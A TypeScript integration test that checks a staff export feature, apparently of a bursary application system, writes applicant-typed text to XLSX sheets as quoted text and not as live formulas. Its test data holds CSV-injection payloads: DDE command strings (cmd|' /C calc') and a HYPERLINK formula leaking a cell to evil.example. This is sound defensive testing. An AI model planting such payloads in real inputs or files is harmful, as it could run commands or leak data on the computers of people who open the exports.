import { api, signIn } from '../support/api';
import { authorised } from '../support/applicants';
import { db } from '../support/database';
import { applicationWithFiles, pay, sendResults } from '../support/exports-arrange';
import { bytesOrJson, formulaCells, readSheet } from '../support/office-files';
import { decide, referenceOf } from '../support/applications';

// Text a spreadsheet would read as a formula once its cell is edited or the sheet saved as CSV
// (OWASP's CSV injection: a leading =, +, -, @, tab or carriage return), typed by the applicant
// (names, the university and course under Other, the student number, a subject, a no-result reason)
// and by staff (the bank). The API trims what it stores, so text opening with a tab or a carriage
// return comes only from rows written before it (imported records): those two are set in the database.
const TYPED = {
  first_name: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  last_name: "=cmd|' /C calc'!A0",
  uni: "@SUM(1+1)*cmd|' /C calc'!A0",
  cor: "+1+cmd|' /C calc'!A0",
  student_number: "-1+cmd|' /C calc'!A0",
  subject: '=1+1',
  reason: '@SUM(A1:A2)',
  bank: '+27 21 000 0000',
};
const STORED = { id_number: '\t=1+2', account: '\r=1+3' };
const REFUND = -250.5;

const quoted = (text: string) => `'${text}`;
// An XML reader reads a carriage return inside a cell back as a line feed.
const quotedAsRead = (text: string) => quoted(text).replace(/\r/g, '\n');

let staff: { token: string };
let applicationId: number;
let email: string;

beforeAll(async () => {
  staff = await signIn();
  const arranged = await applicationWithFiles({
    names: { first_name: TYPED.first_name, last_name: TYPED.last_name },
    university: { university: 'Other', uni: TYPED.uni, course: 'OTHER', cor: TYPED.cor, student_number: TYPED.student_number },
  });
  ({ applicationId } = arranged);
  email = arranged.applicant.email;
  await decide(applicationId, 1, { staff });
  await pay(staff, applicationId, { amount: 12000, date: '2011-06-01', bank: TYPED.bank });
  await pay(staff, applicationId, { amount: 1, date: '2011-06-30' });
  await sendResults(applicationId, 0, { subjects: [{ subjectName: TYPED.subject, subjectMark: '68' }, { subjectName: 'Economics', subjectMark: '75' }] });
  await sendResults(applicationId, 1, { no_result: true, reason: TYPED.reason });

  const [first, second] = (await db()('application_payments_application_lnk').where({ application_id: applicationId }).orderBy('payment_id')).map((row) =>
    Number(row.payment_id),
  );
  await db()('application_payments').where({ id: first }).update({ account: STORED.account });
  // A negative amount (a reversal), which only the database can hold: a real number, never text.
  await db()('application_payments').where({ id: second }).update({ amount_approved: REFUND });
  const { applicant_id: applicantId } = await db()('applications_applicant_lnk').where({ application_id: applicationId }).first();
  await db()('applicants').where({ id: applicantId }).update({ id_number: STORED.id_number });
});

const download = async (path: string, query: Record<string, unknown>) =>
  (await api().get(path).query(query).set(authorised(staff)).buffer(true).parse(bytesOrJson).expect(200)).body as Buffer;

describe('[STAFF][EXPORT]: spreadsheets stay data', () => {
  it('writes typed text that opens like a formula to checklist2022.xlsx as text behind an apostrophe, numbers as numbers', async () => {
    const xlsx = await download('/api/exports/checklist', { application_year: 2025 });
    expect(await formulaCells(xlsx)).toEqual([]);
    const rows = (await readSheet(xlsx)).rows.filter((row) => row.Email === email);
    expect(rows).toEqual([
      expect.objectContaining({
        'First Name': quoted(TYPED.first_name),
        'Last Name': quoted(TYPED.last_name),
        University: quoted(TYPED.uni),
        Course: quoted(TYPED.cor),
        'Student Number': quoted(TYPED.student_number),
        'Application Year': 2025,
        'Total Income': 12700.5,
        'Year of Study': 1,
        'Required Amount for Tuition': 45000,
        'Amount Paid': 12000 + REFUND,
      }),
    ]);
  });

  it('does the same in results.xlsx, while POST /api/getallresults answers the text as typed', async () => {
    const xlsx = await download('/api/exports/results', { application_year: 2025, results_period: 'all' });
    expect(await formulaCells(xlsx)).toEqual([]);
    const mine = (rows: Record<string, unknown>[]) => rows.filter((row) => row['Application No.'] === referenceOf(applicationId));
    const sameInBoth = {
      'Application No.': referenceOf(applicationId),
      University: quoted(TYPED.uni),
      Course: quoted(TYPED.cor),
      'Application Year': 2025,
    };
    expect(mine((await readSheet(xlsx)).rows)).toEqual([
      expect.objectContaining({
        ...sameInBoth,
        'First Name': quoted(TYPED.first_name),
        'Last Name': quoted(TYPED.last_name),
        'ID Number': quoted(STORED.id_number),
        'Student Number': quoted(TYPED.student_number),
        'Subjects and Marks': quoted(`${TYPED.subject}: 68; Economics: 75`),
        Average: 71.5,
      }),
      expect.objectContaining({ ...sameInBoth, 'No Result Reason': quoted(TYPED.reason) }),
    ]);

    const { body } = await api().post('/api/getallresults').set(authorised(staff)).send({ application_year: 2025, results_period: 'all' }).expect(200);
    expect(mine(body)).toEqual([
      expect.objectContaining({ 'First Name': TYPED.first_name, 'ID Number': STORED.id_number, 'Subjects and Marks': `${TYPED.subject}: 68; Economics: 75` }),
      expect.objectContaining({ 'No Result Reason': TYPED.reason }),
    ]);
  });

  it('does the same in the payment sheet, whose only formula is its own total, and keeps dates and amounts (a negative one too) as dates and numbers', async () => {
    const xlsx = await download('/api/exports/payments', { from: '2011-06-01', to: '2011-06-30' });
    expect(await formulaCells(xlsx)).toEqual([{ sheet: 'Payments', address: 'M4', formula: 'SUM(M2:M3)' }]);
    const payment = {
      'First Name': quoted(TYPED.first_name),
      'Last Name': quoted(TYPED.last_name),
      'Application No.': referenceOf(applicationId),
      Reference: quoted(TYPED.student_number),
      'In Favour Of': quoted(TYPED.uni),
    };
    expect((await readSheet(xlsx)).rows).toEqual([
      expect.objectContaining({
        ...payment,
        'Payment Date': new Date('2011-06-01T00:00:00Z'),
        Bank: quoted(TYPED.bank),
        Account: quotedAsRead(STORED.account),
        'Amount Approved': 12000,
      }),
      expect.objectContaining({ ...payment, 'Payment Date': new Date('2011-06-30T00:00:00Z'), Account: 'Trust', 'Amount Approved': REFUND }),
      expect.objectContaining({ 'Payment Date': 'Total', 'Amount Approved': { formula: 'SUM(M2:M3)', result: 12000 + REFUND } }),
    ]);
  });
});
